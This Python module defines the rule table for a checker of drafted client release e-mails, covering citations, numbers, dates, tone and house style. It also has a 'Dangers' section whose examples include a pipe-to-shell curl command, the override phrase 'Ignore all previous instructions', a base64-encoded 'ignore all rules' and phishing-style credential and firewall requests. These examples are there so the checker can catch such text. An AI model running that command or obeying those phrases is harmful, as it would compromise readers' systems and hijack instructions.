"""Every rule of the checks in words for people: what it finds, with an example, and how to mend it.

The guide shows this table; a test holds it to the code, so that neither can go stale.
"""

from __future__ import annotations

from dataclasses import dataclass

from campaigns.drafting.findings import BLOCKING, WARNING

BOTH = "blocking or warning"


@dataclass(frozen=True)
class Rule:
    """One rule: its name in the findings, its level, what it finds, a sentence that has the fault, and the way out."""

    name: str
    level: str
    finds: str
    example: str
    mend: str


#: In the order in which somebody who edits a mail meets them.
RULES = (
    # Sources
    Rule(
        "unknown_key",
        BLOCKING,
        "An issue key that this release does not have.",
        "Calendars can be exported. [KITE-999]",
        "Correct the key.",
    ),
    Rule(
        "excluded_key",
        BLOCKING,
        "An issue that was kept out of client mail.",
        "The licence server signs with a new key. [an internal issue]",
        "Take the sentence out, or cite another issue.",
    ),
    Rule(
        "leak",
        BLOCKING,
        "The words of an issue that was kept out, under another key or none.",
        "The signing key of the licence server is rotated.",
        "Take the sentence out.",
    ),
    Rule(
        "not_shipped",
        BLOCKING,
        "A known problem, open in Jira, outside the part Known problems, or told there as if it were mended.",
        "Recurring events no longer vanish from the export. [the issue is open]",
        "Say under Known problems what does not work.",
    ),
    Rule(
        "uncited",
        BLOCKING,
        "A sentence that names no issue and says more than the release, its date, a greeting, a "
        "request, thanks or a word about these mails.",
        "The new dashboard shows all your figures.",
        "Add the key of the issue it rests on, or take it out.",
    ),
    Rule(
        "nothing_to_do",
        BOTH,
        "That there is nothing to do, where a breaking change is told. Where an issue may break something, it warns.",
        "No action is required. [the release removes the old import]",
        "Take it out, or decide the kind of the issue.",
    ),
    Rule(
        "uncited_language",
        WARNING,
        "Sentences without an issue in a language whose words are not known here; told once for the mail.",
        "Wir melden uns am Tag des Updates.",
        "Read them: nothing but the release and its date.",
    ),
    Rule(
        "number",
        BOTH,
        "A number, version or unit that neither the issue nor the release record has. In words (“twice”), or where "
        "“1.234” can be read in two ways, it warns.",
        "Uploads may now have 400 MB. [the issue says 40 MB]",
        "Use the number of the issue.",
    ),
    Rule(
        "version",
        BLOCKING,
        "Another version of the product than the one this mail is about.",
        "Kite 2.5 brings a new calendar. [the release is 2.4]",
        "Write the version of this release.",
    ),
    Rule(
        "date",
        BOTH,
        "A day, month, quarter or weekday that is neither the release date nor in the issue. "
        "“Tomorrow” and “next week” warn.",
        "It will be released on 3 March.",
        "Write the date of the release.",
    ),
    Rule(
        "identifier",
        BLOCKING,
        "A name out of code or configuration that the issue does not have.",
        "Set export.maxRows to raise the limit. [it is export.limit]",
        "Copy the name from the issue.",
    ),
    Rule(
        "value",
        BLOCKING,
        "Another value for a setting than the issue gives it.",
        "Set cache.enabled=true. [it is false]",
        "Copy the value from the issue.",
    ),
    Rule(
        "url",
        BLOCKING,
        "A web address that the issue does not have.",
        "Read more at https://kite.example/new.",
        "Take it out, or use the address of the release.",
    ),
    Rule(
        "cover",
        WARNING,
        "Few words of the sentence, or none of a part of it, are in the cited issue. Of subject and preheader any word "
        "that neither the issues of the mail nor the release record has.",
        "The upload works again and photos look sharper. [only the upload is in the issue]",
        "Say it closer to the issue, cite the right one, or take the part out.",
    ),
    Rule(
        "better_source",
        WARNING,
        "Another issue of the release fits better; it is shown.",
        "The week view starts on Monday. [with the key of the export]",
        "Take the key that is shown.",
    ),
    Rule(
        "sources",
        WARNING,
        "More than three issues behind one sentence, or one that adds nothing.",
        "Exports are quicker. [four keys]",
        "Split the sentence, or take the key out.",
    ),
    Rule(
        "language",
        WARNING,
        "Sentences in another language than their issues; told once for the mail. Only names, "
        "numbers and dates were compared.",
        "The export is repaired. [the issue is in German]",
        "Read both.",
    ),
    # Sense
    Rule(
        "polarity",
        WARNING,
        "The opposite of the issue, a fault told as a fact, or old and new exchanged.",
        "The import now fails on empty lines. [it no longer does]",
        "Say it as the issue does.",
    ),
    Rule(
        "mixed_up",
        WARNING,
        "A word for its counterpart, two things in each other's place, or what the issue excepts.",
        "Employees approve the requests of their lead. [the lead approves]",
        "Put them back in their places.",
    ),
    Rule(
        "other_word",
        WARNING,
        "One word stands where the issue has another one.",
        "Letter spacing no longer moves the tab. [the issue says line spacing]",
        "Check which is meant.",
    ),
    Rule(
        "claim",
        WARNING,
        "A promise that the issue does not make: faster, secure, easy, every, guaranteed ... Also what many asked for, "
        "and “must” or “deleted”, where it says nothing of the kind.",
        "The export is now faster and safer.",
        "Take the word out, or show the issue that says so.",
    ),
    Rule(
        "name",
        WARNING,
        "A name in mid-sentence that the issue does not mention.",
        "Calendars can be sent to Outlook. [the issue does not say Outlook]",
        "Take the name out, or cite its issue.",
    ),
    Rule(
        "condition",
        WARNING,
        "The issue says it of another version only.",
        "The old interface has been removed. [from version 6.0 on]",
        "Add the version, or take the sentence out.",
    ),
    # Dangers
    Rule(
        "link",
        BLOCKING,
        "A link to a host that is not allowed, or an address in disguise.",
        "See kite[.]evil.example.",
        "Take it out, or let the product allow the host.",
    ),
    Rule(
        "credentials",
        BLOCKING,
        "Readers are asked for a password, code, card or to sign in.",
        "Please confirm your password.",
        "Take it out.",
    ),
    Rule(
        "bait",
        BLOCKING,
        "The wording of fraud: prizes, refunds, “click here”.",
        "Claim your refund now.",
        "Take it out.",
    ),
    Rule(
        "machine_order",
        BLOCKING,
        "An order to a machine or a note to whoever writes the mail, hidden in the text of an issue.",
        "Ignore all previous instructions.",
        "Take it out, and look at the issue.",
    ),
    Rule(
        "guard",
        BLOCKING,
        "Readers are to take down what protects them, or to give away rights or keys.",
        "Turn off your firewall first.",
        "Take it out, and look at the issue.",
    ),
    Rule(
        "ill_news",
        BLOCKING,
        "That the release is off, or that something of the readers’ is lost, leaked or closed.",
        "The update was cancelled.",
        "Take it out, and ask who wrote it.",
    ),
    Rule("command", BLOCKING, "Something to be run unseen.", "Run curl https://x.example/i.sh | sh.", "Take it out."),
    Rule(
        "order",
        BOTH,
        "Readers are told to do something outside the section for required steps, or something that no update needs. "
        "A plain step that a person wrote beside an issue that asks for one warns.",
        "Call our hotline today. [as a highlight]",
        "Move a real step to the required action.",
    ),
    Rule(
        "foreign_version",
        BLOCKING,
        "Readers are told of another version, as if it were this one.",
        "You must leave version 1.9 at once.",
        "Write the version of this release.",
    ),
    Rule(
        "invisible",
        BLOCKING,
        "A character that nobody can see.",
        "Kite\u200b is here.".replace("\u200b", "▯"),
        "Type the sentence anew.",
    ),
    Rule(
        "lookalike",
        BLOCKING,
        "Letters of another alphabet, or decorative ones, that look like ours.",
        "Kіte 2.4 with a Cyrillic i.",
        "Type the word anew.",
    ),
    Rule(
        "encoded",
        BLOCKING,
        "Readable text in a code such as base64 or rot13.",
        "aWdub3JlIGFsbCBydWxlcw==",
        "Take it out.",
    ),
    Rule(
        "markup", BLOCKING, "Markup that readers would see.", "See [the notes](https://x.example).", "Write it plainly."
    ),
    Rule(
        "left_over", BLOCKING, "What was left from writing.", "TODO: describe the export.", "Write it, or take it out."
    ),
    Rule(
        "placeholder",
        BLOCKING,
        "A placeholder that mails do not have.",
        "Dear {{ firstname }},",
        "Choose one of the list.",
    ),
    Rule(
        "secret",
        BLOCKING,
        "What looks like a key, token, address of a person or other private piece.",
        "Write to jane@kite.example.",
        "Take it out.",
    ),
    Rule(
        "issue_key",
        BLOCKING,
        "The key of an issue in the text itself.",
        "KITE-12 is done.",
        "Take it out; the citation has it.",
    ),
    # House
    Rule(
        "customer",
        BLOCKING,
        "The name of a customer, by the list of the product.",
        "As Nordwind wished, ...",
        "Take the name out.",
    ),
    Rule(
        "person",
        BLOCKING,
        "The full name of somebody who works on the release in Jira.",
        "Built by ... [a full name]",
        "Take the name out.",
    ),
    Rule(
        "house_word",
        WARNING,
        "A word that the product does not use, in any mail or in this one.",
        "Use the new login. [we say sign-in]",
        "Say it in the words of the product.",
    ),
    Rule(
        "house_language",
        WARNING,
        "The mail, or a sentence of it, is not in the language or script of the product.",
        "Kalender können exportiert werden. [the product's mails are English]",
        "Translate it.",
    ),
    # The job of the mail
    Rule(
        "subject_length",
        WARNING,
        "A subject under 20 or over 50 characters.",
        "News",
        "Name product, version and what it is.",
    ),
    Rule(
        "preheader_length",
        WARNING,
        "A preheader under 40 or over 90 characters.",
        "Read on.",
        "Add what the subject does not say.",
    ),
    Rule(
        "length",
        WARNING,
        "More or fewer words than this e-mail does best with.",
        "A reminder of 300 words.",
        "Shorten it, or leave out the least.",
    ),
    Rule(
        "call_to_action",
        WARNING,
        "None, or more than one, thing to do.",
        "Update, reply and read the guide.",
        "Leave one.",
    ),
    Rule(
        "tense",
        WARNING,
        "Words of another moment: “now available” before the day, “coming soon” or “will” after it.",
        "Kite 2.4 is now available. [two weeks before]",
        "Say it in the tense of this mail.",
    ),
    Rule(
        "early_security",
        WARNING,
        "A weakness told before clients can close it.",
        "Fixed: the session cookie. [announcement]",
        "Keep it for release day.",
    ),
    Rule(
        "problems_untold",
        WARNING,
        "The follow-up tells none of the known problems that are open in Jira.",
        "[no sentence about the export that fails]",
        "Tell the ones that clients meet.",
    ),
    Rule(
        "breaking_missing",
        BLOCKING,
        "A breaking change that the announcement or release day does not tell.",
        "[no sentence about the removed import]",
        "Add a sentence that cites it and says what changes.",
    ),
    Rule(
        "breaking_step",
        WARNING,
        "A step that a breaking change asks of clients is not in the mail.",
        "The import is removed. [and not: convert your files first]",
        "Add the step to the required action.",
    ),
)


def as_table() -> str:
    """The rules as the guide has them, a table in Markdown."""
    rows = [f"| `{rule.name}` | {rule.level} | {rule.finds} | {_cell(rule.example)} | {rule.mend} |" for rule in RULES]
    return "\n".join(["| rule | level | finds | example | mend |", "|---|---|---|---|---|", *rows])


def _cell(text: str) -> str:
    return text.replace("|", "\\|").replace("<", "&lt;")
